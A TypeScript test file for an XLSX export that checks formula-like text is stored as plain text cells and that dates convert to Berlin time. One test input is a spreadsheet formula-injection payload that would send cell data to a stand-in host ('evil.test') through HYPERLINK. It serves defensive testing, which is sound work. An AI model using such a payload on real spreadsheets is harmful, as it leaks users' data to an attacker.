import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { excelDate, xlsxStream } from './xlsx.ts';

/** The sheet XML of an .xlsx, as a spreadsheet program reads it. */
async function sheetXml(bytes: Buffer): Promise<string> {
  const zip = await yauzl.fromBufferPromise(bytes, { lazyEntries: true });
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName !== 'xl/worksheets/sheet1.xml') continue;
    let xml = '';
    for await (const chunk of await zip.openReadStreamPromise(entry)) xml += chunk;
    return xml;
  }
  throw new Error('no sheet');
}

describe('XLSX exports', () => {
  it('write texts that look like formulas as text cells, never as formulas', async () => {
    const texts = ['=HYPERLINK("http://evil.test/?x="&A2;"Klick")', '+1', '-5 cm', '@SUMME(A1)'];
    const chunks: Buffer[] = [];
    for await (const chunk of xlsxStream('Test', [{ header: 'Name', value: (t: string) => t }], texts))
      chunks.push(chunk);
    const bytes = Buffer.concat(chunks);
    const xml = await sheetXml(bytes);
    expect(xml).not.toMatch(/<f[\s>]/);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const cells = texts.map((_, i) => book.worksheets[0].getRow(i + 2).getCell(1));
    expect(cells.map((c) => c.type)).toEqual(texts.map(() => ExcelJS.ValueType.String));
    expect(cells.map((c) => c.value)).toEqual(texts);
  });

  it('write dates as date cells at Berlin wall-clock time, in summer and winter', async () => {
    const instants = [new Date('2026-07-01T10:05:00Z'), new Date('2026-11-28T22:30:00Z')];
    expect(instants.map((d) => excelDate(d).toISOString())).toEqual([
      '2026-07-01T12:05:00.000Z',
      '2026-11-28T23:30:00.000Z',
    ]);
    const chunks: Buffer[] = [];
    const columns = [{ header: 'Datum', value: (d: Date) => d, format: 'datetime' as const }];
    for await (const chunk of xlsxStream('Test', columns, instants)) chunks.push(chunk);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const cells = instants.map((_, i) => book.worksheets[0].getRow(i + 2).getCell(1));
    expect(cells.map((c) => c.type)).toEqual([ExcelJS.ValueType.Date, ExcelJS.ValueType.Date]);
    expect(cells.map((c) => c.numFmt)).toEqual(['dd.mm.yyyy hh:mm', 'dd.mm.yyyy hh:mm']);
    expect(cells.map((c) => (c.value as Date).toISOString())).toEqual([
      '2026-07-01T12:05:00.000Z',
      '2026-11-28T23:30:00.000Z',
    ]);
  });
});
